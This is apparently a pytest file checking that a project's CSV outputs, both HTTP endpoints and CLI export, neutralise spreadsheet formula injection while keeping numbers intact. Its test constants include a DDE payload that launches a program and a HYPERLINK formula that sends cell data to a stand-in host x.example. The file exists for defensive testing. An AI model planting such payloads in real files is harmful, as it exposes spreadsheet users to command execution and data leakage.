"""CSV formula injection (issue #12 item 7): every CSV gridgov writes neutralises formula-like text.

households.csv, /load?format=csv, the batch nearest CSV and ``gridgov export --format csv``, on both
databases; numbers stay numbers, and an exported CSV imports back with the original names.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from conftest import PLANNER_KEY, make_client
from factories import tiny_dataset
from typer.testing import CliRunner

from cli.main import app as cli_app
from geo.cells import restore_cell, safe_cell
from geo.db import make_engine
from geo.importer import import_dataset
from geo.io import read_dataset
from geo.reassign import ProposalRequest, create_proposal

CMD = "=cmd|' /C calc'!A0"
PLUS = "+1+1"
AT = "@SUM(4,4)"
LINK = '=HYPERLINK("http://x.example/?a="&A1,"click")'
MINUS = "-2+3 社区"


def test_safe_cell_follows_owasp_and_keeps_numbers() -> None:
    for text in (CMD, PLUS, AT, LINK, MINUS, "\tx", "\rx"):
        assert safe_cell(text) == "'" + text and restore_cell(safe_cell(text)) == text
    for value in (3, -2.5, "-12.5", "+7", "1e-3", "105.9437000", "", "南郊社区", None):
        assert safe_cell(value) == value


@pytest.fixture
def formula_db(db_url: str) -> str:
    data = tiny_dataset()
    data.buildings["address"] = LINK
    data.units.loc[data.units["level"] == "community", "name"] = CMD
    data.units.loc[data.units["level"] == "grid", "name"] = MINUS
    data.stations["name"] = AT
    engine = make_engine(db_url)
    import_dataset(engine, data, author="test", valid_from=dt.date(2024, 1, 1))
    create_proposal(engine, ProposalRequest(from_code="520499001001", to_code="520499001002",
                                            child_codes=("520499001001001",), effective_date=dt.date(2025, 3, 1),
                                            author="t", reason="t", document_ref="t"))
    engine.dispose()
    return db_url


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a number may start so


def test_http_csvs_are_neutralised(formula_db: str) -> None:
    with make_client(formula_db) as client:
        households = client.get("/proposals/1/households.csv", headers={"X-API-Key": PLANNER_KEY})
        load = client.get("/load", params={"format": "csv"})
        nearest = client.post("/stations/nearest", params={"format": "csv", "k": 2},
                              content=f"id,lon,lat\n{PLUS},106.005,26.005\n-1,106.03,26.015\n",
                              headers={"content-type": "text/csv"})
    for response in (households, load, nearest):
        assert response.status_code == 200, response.text
        rows = _cells(response.text)
        _no_formula(rows)
    assert any("'" + LINK in row for row in _cells(households.text))
    assert any("'" + CMD in row for row in _cells(load.text))
    rows = _cells(nearest.text)
    assert any("'" + AT in row for row in rows) and any("'" + PLUS in row for row in rows)
    assert any(row[1] == "-1" for row in rows[1:])  # a number stays a number


def test_export_csv_is_neutralised_and_imports_back(formula_db: str, tmp_path: Path) -> None:
    out = tmp_path / "export"
    result = CliRunner().invoke(cli_app, ["export", str(out), "--format", "csv", "--database", formula_db])
    assert result.exit_code == 0, result.output
    text = (out / "units.csv").read_text(encoding="utf-8-sig")
    _no_formula(_cells(text))
    assert "'" + CMD in text
    back = read_dataset(out)
    assert set(back.units["name"]) >= {CMD, MINUS}
